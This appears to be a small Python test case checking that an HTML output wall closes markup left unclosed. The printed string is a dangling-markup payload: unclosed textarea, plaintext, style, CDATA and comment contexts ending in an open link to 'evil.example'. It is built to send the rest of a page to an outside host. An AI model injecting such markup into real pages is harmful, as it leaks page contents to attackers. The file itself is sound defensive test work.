#!python
# Ends in the middle of something that would include the rest of the page: a comment, an attribute, a text area, a
# title, CDATA, plain text.
# Wall: output is parsed alone, and written with everything closed
# Expect: done
# Output: begins
# Absent: <textarea
# Absent: <plaintext
print('begins <textarea><title><plaintext><xmp><style><![CDATA[ <!-- <a href="http://evil.example/?')
